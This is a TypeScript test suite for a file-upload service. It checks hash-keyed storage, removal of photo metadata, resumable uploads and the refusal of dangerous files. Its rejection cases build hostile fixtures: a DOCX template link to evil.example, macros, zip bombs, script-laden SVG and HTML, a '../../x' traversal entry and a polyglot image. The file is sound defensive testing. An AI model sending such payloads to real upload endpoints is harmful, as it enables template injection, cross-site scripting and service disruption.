import { randomBytes, randomUUID } from 'node:crypto'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { clearFiles } from '../../db/files/clear.ts'
import { mostFileBytes } from '../../domain/files/file-kind.ts'
import { filesRoutes as routes } from '../../domain/files/files.contract.ts'
import { asWorker } from '../db/feedback-round.ts'
import { type House, openHouse } from '../setup/house.ts'
import { type Person, signIn } from '../setup/person.ts'
import { docx, hiddenInPhoto, pdf, photo, png, xlsx, zipOf } from '../setup/real-files.ts'
import { hashOf, sendFile, sendPiece } from '../setup/sent-file.ts'
import { openYearWalk, type YearWalk } from '../setup/year-walk.ts'

let house: House
let walk: YearWalk
let drafter: Person
let other: Person

beforeAll(async () => {
  house = await openHouse({ unitCount: 2 })
  walk = openYearWalk(house)
  drafter = await signIn(house.address, 'unit1.drafter')
  other = await signIn(house.address, 'unit2.drafter')
})
afterAll(() => house?.close())

const storedOf = async (sha256: string) =>
  (await walk.asOwner('select bytes from stored_file where sha256 = $1', [sha256])) as {
    bytes: Buffer
  }[]

describe('what is taken', () => {
  test.each([
    ['pdf', pdf()],
    ['docx', docx()],
    ['xlsx', xlsx()],
  ] as const)('%s, byte for byte, under its hash', async (kind, bytes) => {
    const { status, body } = await sendFile(drafter, bytes, { name: 'Biên bản họp.bin' })
    expect(status).toBe(200)
    const ending = `Biên bản họp.${kind}`
    expect(body.kept).toEqual({ kind, name: ending, size: bytes.length, sha256: hashOf(bytes) })
    expect((await storedOf(hashOf(bytes)))[0]?.bytes.equals(bytes)).toBe(true)
  })

  test('a photo, upright, without place, time, maker, profile', async () => {
    const taken = await photo()
    for (const secret of hiddenInPhoto) expect(taken.includes(secret), secret).toBe(true)
    const { body } = await sendFile(drafter, taken, { name: 'anh.png' })
    expect(body.kept).toMatchObject({ kind: 'jpeg', name: 'anh.jpg' })
    const [kept] = await storedOf(body.kept?.sha256 ?? '')
    for (const secret of hiddenInPhoto) expect(kept?.bytes.includes(secret), secret).toBe(false)
    const { width, height, exif, icc, orientation } = await sharp(kept?.bytes).metadata()
    expect([width, height, exif, icc, orientation]).toEqual([
      900,
      1_200,
      undefined,
      undefined,
      undefined,
    ])
  })

  test('a very large picture becomes as large as paper needs', async () => {
    const { body } = await sendFile(drafter, await png(5_000, 100))
    const [kept] = await storedOf(body.kept?.sha256 ?? '')
    expect((await sharp(kept?.bytes).metadata()).width).toBe(4_000)
  })

  test('the same bytes from two people lie there once, and each sees only its own upload', async () => {
    const bytes = pdf('', '% hai người một tệp\n')
    const uploadId = randomUUID()
    await sendFile(drafter, bytes, { uploadId })
    await sendFile(other, bytes)
    expect(await storedOf(hashOf(bytes))).toHaveLength(1)
    expect((await other.call(routes.upload, { params: { uploadId } })).status).toBe(404)
    expect((await sendPiece(other, uploadId, 0, bytes)).status).toBe(404)
  })
})

describe('what is not taken, each with its own words', () => {
  const types = '<Types/>'
  const macro = { name: 'word/vbaProject.bin', content: 'x' }
  const template = {
    name: 'word/_rels/settings.xml.rels',
    content:
      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
  }
  const bomb = { name: 'word/media/x.xml', content: Buffer.alloc(60_000_000) }
  const liar = { ...bomb, content: Buffer.alloc(5_000_000), says: { inflated: 1_000 } }
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
  const html = '<!doctype html><script>alert(1)</script>'
  const oldOffice = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4_096)])
  const lockedOffice = Buffer.concat([oldOffice, Buffer.from('EncryptedPackage', 'utf16le')])
  const manyPixels = () => {
    const header = Buffer.alloc(8)
    header.writeUInt32BE(60_000, 0)
    header.writeUInt32BE(60_000, 4)
    return png().then((bytes) => Buffer.concat([bytes.subarray(0, 16), header, bytes.subarray(24)]))
  }
  test.each<[string, string, () => Buffer | Promise<Buffer>]>([
    ['a Word file with macros', 'files.macro', () => docx([macro])],
    [
      'macros under another main type',
      'files.macro',
      () => docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ],
    ['a template from elsewhere', 'files.linked-template', () => docx([template])],
    ['a bomb', 'files.unpacks-too-large', () => docx([bomb])],
    ['a bomb that lies', 'files.unpacks-too-large', () => docx([liar])],
    ['an entry with a password', 'files.locked', () => docx([{ ...macro, says: { flags: 1 } }])],
    ['a Word file with a password', 'files.locked', () => lockedOffice],
    ['an old Word file', 'files.old-office', () => oldOffice],
    ['a PDF with a password', 'files.locked', () => pdf('/Encrypt 9 0 R')],
    ['half a PDF', 'files.broken', () => pdf().subarray(0, 120)],
    ['half a Word file', 'files.broken', () => docx().subarray(0, 300)],
    ['an entry that climbs out', 'files.broken', () => docx([{ name: '../../x', content: 'x' }])],
    ['any other zip', 'files.wrong-kind', () => zipOf([{ name: 'a.txt', content: 'x' }])],
    [
      'a zip that only has the list of types',
      'files.wrong-kind',
      () => zipOf([{ name: '[Content_Types].xml', content: types }]),
    ],
    ['SVG', 'files.wrong-kind', () => Buffer.from(svg)],
    ['HTML', 'files.wrong-kind', () => Buffer.from(html)],
    ['a program', 'files.wrong-kind', () => Buffer.concat([Buffer.from('MZ'), randomBytes(500)])],
    ['noise', 'files.wrong-kind', () => randomBytes(5_000)],
    ['half a photo', 'files.broken', async () => (await photo()).subarray(0, 3_000)],
    ['more pixels than anybody has', 'files.picture-too-large', manyPixels],
  ])('%s: %s', async (_, code, made) => {
    const bytes = await made()
    const uploadId = randomUUID()
    const reply = await sendFile(drafter, bytes, { name: 'bien-ban.pdf', uploadId })
    expect([reply.status, reply.problem.code]).toEqual([422, code])
    expect(reply.problem.title).not.toContain('files.')
    // asked again it is the same verdict, and nothing of it is left
    expect((await sendPiece(drafter, uploadId, bytes.length, Buffer.alloc(0))).problem.code).toBe(
      code,
    )
    const { body } = await drafter.call(routes.upload, { params: { uploadId } })
    expect(body).toMatchObject({ kept: null, refusedBecause: code })
    const left = await walk.asOwner('select 1 from upload_piece where upload_id = $1', [uploadId])
    expect(left).toEqual([])
  })

  test('a picture that is also a page stays a picture and nothing else', async () => {
    const polyglot = Buffer.concat([await photo(), Buffer.from(html), docx()])
    const { body } = await sendFile(drafter, polyglot)
    const [kept] = await storedOf(body.kept?.sha256 ?? '')
    expect(kept?.bytes.includes('<script>')).toBe(false)
    expect(kept?.bytes.includes('word/document.xml')).toBe(false)
  })

  test('an empty file, and one a byte too long, before anything is sent', async () => {
    const begin = (size: number) =>
      drafter.call(routes.begin, {
        body: { uploadId: randomUUID(), name: 'a.pdf', size, sha256: 'a'.repeat(64) },
      })
    expect((await begin(0)).problem.errors[0]?.code).toBe('files.empty')
    expect((await begin(mostFileBytes + 1)).problem.errors[0]?.code).toBe('files.too-large')
    expect((await begin(mostFileBytes)).status).toBe(200)
  })

  test('other bytes than were announced, and more of them', async () => {
    const reply = await sendFile(drafter, pdf(), { sha256: 'b'.repeat(64) })
    expect(reply.problem.code).toBe('files.not-as-sent')
    const uploadId = randomUUID()
    const body = { uploadId, name: 'a.pdf', size: 10, sha256: 'a'.repeat(64) }
    await drafter.call(routes.begin, { body })
    const longer = await sendPiece(drafter, uploadId, 0, Buffer.alloc(11))
    expect(longer.problem.code).toBe('files.longer-than-said')
    expect((await sendPiece(drafter, uploadId, 0, Buffer.alloc(1_048_577))).status).toBe(413)
  })

  test('the constraint of the table itself refuses bytes under a wrong hash', async () => {
    await expect(
      walk.asOwner(
        `insert into stored_file (federation_id, sha256, kind, size, bytes) values ($1, $2, 'pdf', 1, 'x')`,
        [house.federation.federationId, 'c'.repeat(64)],
      ),
    ).rejects.toThrow('as_its_hash_says')
  })
})

test('a file of ten megabytes goes on where its line broke, whatever arrived twice', async () => {
  const text = randomBytes(4_900_000).toString('hex')
  const bytes = pdf('', `% ${text}\n`)
  const uploadId = randomUUID()
  const begin = () =>
    drafter.call(routes.begin, {
      body: { uploadId, name: 'lon.pdf', size: bytes.length, sha256: hashOf(bytes) },
    })
  await begin()
  await sendPiece(drafter, uploadId, 0, bytes.subarray(0, 700_000))
  // the reply was lost: the same piece again is refused with the place to go on from
  const twice = await sendPiece(drafter, uploadId, 0, bytes.subarray(0, 700_000))
  expect(twice.problem).toMatchObject({
    code: 'files.other-offset',
    details: { received: 700_000 },
  })
  const gap = await sendPiece(drafter, uploadId, 900_000, bytes.subarray(900_000, 950_000))
  expect(gap.status).toBe(409)
  expect((await begin()).body.received).toBe(700_000)
  const { body } = await sendFile(drafter, bytes, { uploadId })
  expect(body.kept?.sha256).toBe(hashOf(bytes))
  expect((await begin()).body.kept?.sha256).toBe(hashOf(bytes))
}, 60_000)

test('two windows that send one file at once make one of it', async () => {
  const bytes = pdf('', `% ${randomBytes(300_000).toString('hex')}\n`)
  const uploadId = randomUUID()
  const replies = await Promise.all(
    [1, 2, 3].map(() => sendFile(drafter, bytes, { uploadId, most: 100_000 })),
  )
  for (const { status } of replies) expect([200, 409]).toContain(status)
  const { body } = await sendFile(drafter, bytes, { uploadId })
  expect(body.kept?.sha256).toBe(hashOf(bytes))
})

test('what lies unused for a day is cleared, what is used stays', async () => {
  const old = pdf('', '% cũ\n')
  await sendFile(drafter, old)
  await walk.asOwner(`update upload set touched_at = now() - interval '2 days'`)
  await walk.asOwner(`update stored_file set wanted_at = now() - interval '2 days'`)
  const fresh = pdf('', '% mới\n')
  await sendFile(drafter, fresh)
  await asWorker(house, clearFiles)
  expect(await storedOf(hashOf(old))).toEqual([])
  expect(await storedOf(hashOf(fresh))).toHaveLength(1)
})
